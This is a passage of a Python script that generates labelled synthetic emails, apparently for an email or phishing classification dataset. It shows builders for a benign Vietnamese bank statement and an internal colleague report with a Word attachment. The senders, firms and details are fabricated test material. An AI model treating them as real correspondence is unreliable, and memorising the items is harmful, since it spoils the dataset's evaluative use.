Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 5)}.{ts(d)}{digits(stem + 'mid3', 3)}@estmt-app01>
Subject: {ew('Techcombank - Sao kê tài khoản điện tử tháng 06/2025')}
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine Techcombank monthly account e-statement in Vietnamese with a password-protected PDF and a "
        "fraud warning, sent from the bank's own signed server", t_gmail(rcpt, d, a, stem), headers, body)


def lg_vn_colleague() -> None:
    stem = f"b{N}-legit-vn-colleague-report"
    d = D("2025-08-19 15:37:08 +0700")
    rcpt = "ketoan@anphatco.vn"
    mx = "mail.anphatco.vn"
    qid = hx(stem + "q", 11, True)
    trace = f"""Return-Path: <hoa.nguyen@anphatco.vn>
X-Original-To: {rcpt}
Delivered-To: {rcpt}
Received: from [192.168.10.23] (unknown [113.161.72.140])
	(Authenticated sender: hoa.nguyen@anphatco.vn)
	by {mx} (Postfix) with ESMTPSA id {qid}
	for <{rcpt}>; {format_datetime(at(d + timedelta(seconds=1), '+0700'))}"""
    doc = files.docx(["CONG TY TNHH AN PHAT", "BAO CAO DOANH THU THANG 7/2025",
                      "Tong doanh thu: 4.812.500.000 VND", "Chi phi van chuyen: 312.400.000 VND",
                      "Cong no phai thu qua han: 3 khach hang (chi tiet o muc 4)"],
                     "Bao cao doanh thu T7-2025", "Nguyen Thi Hoa")
    plain = """Chào chị Lan,

Em gửi chị bản báo cáo doanh thu tháng 7 đã chỉnh theo góp ý hôm qua: tách riêng chi phí vận chuyển và
thêm phần công nợ quá hạn của 3 khách hàng (Minh Phát, Hòa Bình, Đông Á) ở mục 4.

Chị xem giúp em số liệu công nợ có khớp với sổ bên kế toán không nhé. Nếu ổn thì chiều mai em gửi anh
Tuấn duyệt.

Cảm ơn chị!

--
Nguyễn Thị Hòa
Phòng Kinh doanh - Công ty TNHH An Phát
ĐT: 0903 418 226

On 18/08/2025 17:02, Phạm Thị Lan wrote:
> Hòa ơi, báo cáo T7 em tách chi phí vận chuyển riêng ra và bổ sung phần công nợ quá hạn giúp chị nhé.
> Chị cần trước thứ Năm để tổng hợp.
>
> Chị Lan
"""
    html = ('<!DOCTYPE html>\n<html>\n  <head>\n    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8">\n'
            '  </head>\n  <body>\n    <p>' + esc(plain.split("\n--\n")[0]).replace("\n\n", "</p>\n    <p>").replace("\n", " ")
            + '</p>\n    <pre class="moz-signature" cols="72">-- \nNguyễn Thị Hòa\nPhòng Kinh doanh - Công ty TNHH An Phát\n'
            'ĐT: 0903 418 226</pre>\n    <div class="moz-cite-prefix">On 18/08/2025 17:02, Phạm Thị Lan wrote:<br></div>\n'
            '    <blockquote type="cite">Hòa ơi, báo cáo T7 em tách chi phí vận chuyển riêng ra và bổ sung phần công nợ quá '
            'hạn giúp chị nhé. Chị cần trước thứ Năm để tổng hợp.<br><br>Chị Lan</blockquote>\n  </body>\n</html>\n')
    body = Multi("mixed", boundary(stem, "thunderbird"), [
        Multi("alternative", boundary(stem + "a", "thunderbird"), [qp_plain(plain), qp_html(html)]),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   "BaoCao_DoanhThu_T7_2025_v2.docx", doc),
    ])
    headers = f"""Message-ID: <{guid(stem + 'tb')}@anphatco.vn>
Date: {format_datetime(at(d, '+0700'))}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: {ew('Re: Báo cáo doanh thu tháng 7/2025')}
To: {addr('Phạm Thị Lan', rcpt)}
References: <{guid(stem + 'ref')}@anphatco.vn>
Content-Language: vi
From: {addr('Nguyễn Thị Hòa', 'hoa.nguyen@anphatco.vn')}
In-Reply-To: <{guid(stem + 'ref')}@anphatco.vn>"""
    add(stem, "clean", "Internal Vietnamese reply between colleagues on a self-hosted Postfix server (Thunderbird), "
        "attaching a revised monthly revenue report as a Word document", trace, headers, body)


# ---------------------------------------------------------------------------
# main
# ---------------------------------------------------------------------------

BUILDERS = [f for name, f in list(globals().items())
            if callable(f) and name.startswith(("ph_", "id_", "my_", "sg_", "th_", "vn_", "lg_"))]


def main() -> None:
    for build in BUILDERS:
        build()
    write_all()


if __name__ == "__main__":
    main()
